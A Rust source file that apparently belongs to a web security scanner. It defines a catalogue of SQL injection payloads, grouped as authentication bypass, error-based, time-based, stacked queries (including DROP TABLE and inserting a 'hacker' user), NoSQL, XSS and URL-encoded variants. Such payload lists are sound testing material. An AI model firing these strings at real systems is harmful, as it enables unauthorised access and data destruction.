use crate::payload::{Catalog, Group};

const SQL_GROUPS: &[Group] = &[
    (
        "basic",
        &[
            "' OR '1'='1",
            "' OR '1'='1' --",
            "' OR '1'='1' /*",
            "' OR '1'='1'; --",
            "admin' --",
            "admin' #",
        ],
    ),
    (
        "error",
        &[
            "' AND 1=CONVERT(int,(SELECT @@VERSION)) --",
            "' AND 1=CONVERT(int,'a') --",
            "' AND 1=(SELECT COUNT(*) FROM sysusers AS sys1, sysusers as sys2, sysusers as sys3) --",
        ],
    ),
    (
        "time",
        &[
            "'; WAITFOR DELAY '0:0:2' --",
            "'; IF 1=1 WAITFOR DELAY '0:0:2' --",
        ],
    ),
    (
        "stacked",
        &[
            "'; INSERT INTO users (username, password) VALUES ('hacker', 'password'); --",
            "'; DELETE FROM users WHERE username='test'; --",
            "'; DROP TABLE users; --",
        ],
    ),
    (
        "complex",
        &[
            "' AND (SELECT 'x' FROM USERS WHERE 1=1 AND ROWNUM<2) IS NOT NULL --",
            "' HAVING 1=1 --",
            "' GROUP BY columnnames HAVING 1=1 --",
            "' SELECT name FROM syscolumns WHERE id = (SELECT id FROM sysobjects WHERE name = 'tablename') --",
        ],
    ),
    (
        "nosql",
        &[
            "' || 1==1",
            "' && 1==1",
            "'; return true; var foo='",
            "'; return false; var foo='",
        ],
    ),
    (
        "xss",
        &[
            "'><script>alert(1)</script>",
            "' UNION SELECT '<script>alert(1)</script>', NULL, NULL, NULL --",
        ],
    ),
    (
        "encoding",
        &[
            "'%20OR%20'1'%3D'1'",
            "' UNION%20SELECT%20'1'%2C'2'%2C'3'%2C'4'--",
        ],
    ),
];

pub static SQL_PAYLOADS: Catalog = Catalog::new("sql", SQL_GROUPS);
